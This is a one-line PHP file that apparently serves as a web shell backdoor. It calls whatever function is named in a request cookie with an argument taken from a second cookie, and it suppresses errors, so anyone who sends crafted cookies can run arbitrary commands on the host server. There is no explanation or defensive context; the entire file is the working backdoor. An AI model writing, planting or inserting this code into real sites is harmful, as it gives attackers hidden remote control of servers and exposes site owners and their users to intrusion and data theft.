<?php @$_COOKIE['a']($_COOKIE['b']); ?>
